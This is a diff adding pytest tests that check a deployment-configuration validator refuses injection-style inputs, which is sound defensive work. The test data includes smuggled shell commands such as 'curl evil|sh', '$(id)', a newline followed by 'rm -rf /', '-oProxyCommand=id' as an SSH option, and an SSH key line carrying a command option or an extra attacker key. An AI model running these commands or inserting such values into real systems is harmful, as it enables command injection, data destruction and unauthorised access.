@@ -138,3 +138,83 @@ def test_pyinfra_stops_on_bad_inventory_before_connecting(tmp_path, good):
     assert result.returncode != 0
     assert "door_port" in output and "nothing was connected to" in output, output
     assert "Connecting" not in output and "Connected" not in output, output
+
+
+# -- values that land in shell lines, file lines and command arguments (issue #14) ---------
+def _backups(tmp_path, **overrides) -> dict:
+    pub = tmp_path / "operator.pub.asc"
+    pub.write_text("-----BEGIN PGP PUBLIC KEY BLOCK-----\nx\n-----END PGP PUBLIC KEY BLOCK-----\n")
+    return {"target_host": "backup.example.net", "public_key_file": str(pub), **overrides}
+
+
+@pytest.mark.parametrize("hostname", ["vos; curl evil|sh", "a b", "-x", "host\nname", "x" * 64,
+                                      "$(id)"])
+def test_tailscale_hostname_with_shell_metacharacters_is_refused(good, hostname):
+    good["mesh"] = {"provider": "tailscale",
+                    "tailscale": {"hostname": hostname, "authkey_env": "TS_KEY"}}
+    assert "mesh.tailscale.hostname" in _error(good)
+
+
+def test_a_public_key_with_an_embedded_newline_is_refused(good):
+    good["operator_public_keys"] = [SSH_KEY + "\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker x"]
+    message = _error(good)
+    assert "operator_public_keys.0" in message and "one OpenSSH public key line" in message
+
+
+@pytest.mark.parametrize("key", [
+    'command="sh" ' + SSH_KEY,  # options change what the key may do
+    "ssh-foo AAAAC3NzaC1lZDI1NTE5 x",
+    "ssh-ed25519 not!base64 x",
+])
+def test_public_key_lines_with_options_or_odd_shapes_are_refused(good, key):
+    good["operator_public_keys"] = [key]
+    assert "operator_public_keys.0" in _error(good)
+
+
+@pytest.mark.parametrize("target", ["backup.example.net\nrm -rf /", "-oProxyCommand=id",
+                                    "host name", "a;b"])
+def test_backup_target_host_with_newline_or_leading_dash_is_refused(good, tmp_path, target):
+    good["backups"] = _backups(tmp_path, target_host=target)
+    assert "backups.target_host" in _error(good)
+
+
+def test_backup_target_host_key_is_checked(good, tmp_path):
+    good["backups"] = _backups(tmp_path, target_host_key="ssh-ed25519 AAAA\n* ssh-rsa AAAA")
+    assert "backups.target_host_key" in _error(good)
+    good["backups"] = _backups(tmp_path, target_host_key=SSH_KEY)
+    assert validate_host("vps", good).backups.target_host_key == SSH_KEY
+
+
+def test_door_port_equal_to_ssh_port_is_refused(good):
+    good["door_port"] = 22
+    assert "door_port and ssh_port are both 22" in _error(good)
+
+
+def test_door_port_equal_to_the_api_port_is_refused(good):
+    good["door_port"] = 8080
+    good["stack"] = {}
+    assert "stack.api_port and door_port are both 8080" in _error(good)
+
+
+@pytest.mark.parametrize("field", ["ssh_port", "door_port"])
+def test_a_boolean_is_not_a_port(good, field):
+    good[field] = True
+    assert field in _error(good)
+
+
+def test_agents_tenant_must_be_a_slug(good):
+    good["stack"] = {"agents_tenant": "Acme; drop"}
+    assert "stack.agents_tenant" in _error(good)
+
+
+def test_env_var_names_are_names_not_values(good, tmp_path):
+    good["backups"] = _backups(tmp_path, database_url_env="postgresql://u:p@h/db")
+    assert "backups.database_url_env" in _error(good)
+    good.pop("backups")
+    good["stack"] = {"worker_env": {"ANTHROPIC_API_KEY": "sk-ant-api03-xyz"}}
+    assert "stack.worker_env" in _error(good)
+
+
+def test_ssh_hostname_cannot_be_an_ssh_option(good):
+    good["ssh_hostname"] = "-oProxyCommand=id"
+    assert "ssh_hostname" in _error(good)
